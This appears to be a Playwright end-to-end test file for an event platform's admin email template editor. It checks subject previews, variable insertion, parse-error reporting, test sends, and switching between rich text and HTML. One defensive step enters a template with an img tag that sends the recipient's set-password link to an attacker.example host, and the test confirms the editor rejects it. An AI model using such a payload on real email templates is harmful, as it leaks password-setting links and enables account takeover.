import { expect, expectAccessible, mainContent, test } from './fixtures.ts';
import { adminEventId, demo, inboxOf, signIn } from './helpers.ts';

const unique = () => `${Date.now()}${Math.floor(Math.random() * 1000)}`;

test("an admin edits the welcome email's subject, sees the preview follow, saves, sends a test, is shown a template error's line, and the next welcome uses the new subject", async ({
  page,
  request,
}) => {
  test.setTimeout(120_000);
  const id = unique();
  const eventId = await adminEventId(request);

  // From the admin landing page's card to the list.
  await signIn(page, demo.admin, '/admin');
  await page.getByRole('link', { name: 'Email templates' }).click();
  await expect(page).toHaveURL(/\/admin\/email-templates$/);
  await expect(page.getByRole('heading', { level: 1, name: 'Email Templates' })).toBeVisible();
  await expectAccessible(page, mainContent);
  await page.getByRole('link', { name: 'Welcome', exact: true }).click();

  // The view: the email as sent now, in a sandboxed frame.
  await expect(page).toHaveURL(/\/admin\/email-templates\/welcome$/);
  await expect(page.getByTitle('Email preview')).toBeVisible();
  await page.getByRole('link', { name: 'Edit' }).click();
  await expect(page).toHaveURL(/\/admin\/email-templates\/welcome\/edit$/);
  await expectAccessible(page, mainContent);

  // The subject changes, and the preview follows with the sample data.
  const subject = page.getByRole('textbox', { name: 'Subject' });
  await subject.fill(`Welcome aboard, {{ firstName }} (${id})`);
  await expect(page.getByTestId('preview-subject')).toHaveText(`Welcome aboard, Alex (${id})`);

  // In HTML, a variable goes in where the cursor is.
  await page.getByText('HTML', { exact: true }).click();
  const body = page.getByRole('textbox', { name: 'Body' });
  await expect(body).toHaveJSProperty('tagName', 'TEXTAREA');
  await body.click();
  await body.press('Control+End');
  await page.getByRole('button', { name: '{{ teamName }}' }).click();
  await expect(body).toHaveValue(/\{\{ teamName \}\}$/);
  await expect(page.getByTitle('Email preview')).toBeVisible();

  await page.getByRole('button', { name: 'Save email template' }).click();
  await expect(page.getByText('The email template was saved')).toBeVisible();

  // A test goes to the admin's own address.
  await page.getByRole('button', { name: 'Send a test to me' }).click();
  await expect(page.getByText(`A test email is on its way to ${demo.admin}`)).toBeVisible();
  await expect(async () => {
    const mails = await inboxOf(request, demo.admin);
    expect(mails.map((m) => m.subject)).toContain(`[Test] Welcome aboard, Alex (${id})`);
  }).toPass({ timeout: 20_000 });

  // A template that does not parse: the preview and the save name the line; nothing is saved.
  await body.fill('<p>Hi {{ firstName }}</p>\n<p>{% if teamName %}open</p>');
  await expect(page.getByRole('alert').filter({ hasText: 'Body, line 2' })).toBeVisible();
  await expect(page.getByText(/Line 2, column \d+/).first()).toBeVisible();
  await page.getByRole('button', { name: 'Save email template' }).click();
  await expect(page.getByText(/Body, line 2, column \d+/).first()).toBeVisible();
  const saved = await request.get(`/api/v1/events/${eventId}/email-templates/welcome`);
  expect((await saved.json()).body).not.toContain('{% if teamName %}open');

  // The set-password link is the recipient's alone: it goes in only as its button, on its own.
  await body.fill(
    "<p>Hi {{ firstName }}</p>\n<img src='https://attacker.example/?{% button setPasswordUrl %}'>",
  );
  await expect(
    page
      .getByRole('alert')
      .filter({ hasText: 'Body, line 2, column 37: The button cannot be inside an attribute' }),
  ).toBeVisible();
  await body.fill('<p>Hi {{ firstName }}</p>\n');
  await body.press('Control+End');
  await page
    .getByRole('button', { name: '{% button setPasswordUrl "Set your password" %}' })
    .click();
  await expect(body).toHaveValue(/\{% button setPasswordUrl "Set your password" %\}$/);
  // The first save's toast has gone (on a quick run it can still be showing): the next is this save's.
  await expect(page.getByText('The email template was saved')).toHaveCount(0, { timeout: 15_000 });
  await page.getByRole('button', { name: 'Save email template' }).click();
  await expect(page.getByText('The email template was saved')).toBeVisible();
  await expectAccessible(page, mainContent);

  // The next welcome email uses the saved subject.
  const ownerEmail = `templates.${id}@example.com`;
  const created = await request.post(`/api/v1/events/${eventId}/teams`, {
    data: {
      name: `Template Team ${id}`,
      ownerEmail,
      ownerFirstName: 'Tess',
      ownerSurname: 'Owner',
    },
  });
  expect(created.status()).toBe(201);
  await expect(async () => {
    const mails = await inboxOf(request, ownerEmail);
    expect(mails.map((m) => m.subject)).toContain(`Welcome aboard, Tess (${id})`);
  }).toPass({ timeout: 20_000 });
});

test('the list shows each subject as it reads with the sample data; the body is edited as rich text with variable chips and the action button, or as HTML, and nothing is lost between them', async ({
  page,
  request,
}) => {
  test.setTimeout(120_000);
  const eventId = await adminEventId(request);
  const api = `/api/v1/events/${eventId}/email-templates/verifyPasswordChange`;
  await request.delete(api);
  await signIn(page, demo.admin);

  // The list: the subject rendered as in an inbox, never its Liquid.
  await page.goto('/admin/email-templates');
  const row = page.getByRole('row').filter({ hasText: 'Password reset' });
  await expect(row).toContainText(/Reset your .+ password/);
  await expect(row).not.toContainText('{{');
  const listed = (await row.getByRole('cell').nth(1).textContent())?.trim();

  // The email's page keeps the subject as written, and its preview matches the list.
  await row.getByRole('link', { name: 'Password reset' }).click();
  await expect(page.getByTestId('raw-subject')).toHaveText('Reset your {{ eventName }} password');
  await expect(page.getByTestId('preview-subject')).toHaveText(listed ?? '');

  // The editor opens in rich text: the variable as a chip, the reset link as the system's button.
  await page.getByRole('link', { name: 'Edit' }).click();
  await expect(page.getByRole('radio', { name: 'Rich text' })).toBeChecked();
  const editor = page.getByRole('textbox', { name: 'Body' });
  // The editor's chunk loads when it first shows (slow on a busy machine).
  await expect(editor).toBeVisible({ timeout: 30_000 });
  await expect(editor.locator('.liquid-chip').first()).toHaveText('firstName | default: "there"');
  await expect(editor.locator('.liquid-action')).toContainText('Reset password');
  await expect(editor.locator('.liquid-action')).toContainText('placed by Showdesk');
  await expectAccessible(page, mainContent);

  // Words and a variable chip at the end of the greeting.
  const greeting = editor.locator('p').first();
  await greeting.click({ position: { x: 4, y: 6 } });
  await page.keyboard.press('End');
  await page.keyboard.type(' glad to see you at ');
  await page.getByRole('button', { name: 'Insert variable' }).click();
  await page.getByRole('menuitem', { name: /^eventName/ }).click();
  await page.keyboard.type('.');
  await expect(editor.locator('.liquid-chip').nth(1)).toHaveText('eventName');
  // The live preview renders it with the sample data.
  await expect(
    page.frameLocator('iframe[title="Email preview"]').getByText(/glad to see you at \S/),
  ).toBeVisible();
  const line = '<p>Hi {{ firstName | default: "there" }}, glad to see you at {{ eventName }}.</p>';

  // HTML shows the same Liquid; back in rich text nothing changed.
  await page.getByText('HTML', { exact: true }).click();
  const html = page.getByRole('textbox', { name: 'Body' });
  await expect(html).toHaveJSProperty('tagName', 'TEXTAREA');
  await expect(html).toHaveValue(new RegExp(`^${escapeRegExp(line)}\n`));
  await expect(html).toHaveValue(/\n\{% button resetUrl "Reset password" %\}$/);
  await page.getByText('Rich text', { exact: true }).click();
  await expect(editor.locator('.liquid-chip').nth(1)).toHaveText('eventName');
  await expectAccessible(page, mainContent);

  await page.getByRole('button', { name: 'Save email template' }).click();
  await expect(page.getByText('The email template was saved')).toBeVisible();
  const saved = (await (await request.get(api)).json()) as { body: string };
  expect(saved.body.split('\n')[0]).toBe(line);
  expect(saved.body).toContain('{% button resetUrl "Reset password" %}');
  await request.delete(api);

  // A body that is mostly Liquid logic opens in HTML and says why.
  await page.goto('/admin/email-templates/taskReminder/edit');
  await expect(page.getByRole('radio', { name: 'HTML' })).toBeChecked();
  await expect(page.getByTestId('body-mode-note')).toContainText('mostly Liquid logic');
  await expect(page.getByRole('textbox', { name: 'Body' })).toHaveValue(
    /\{% for task in tasks %\}/,
  );
});

const escapeRegExp = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
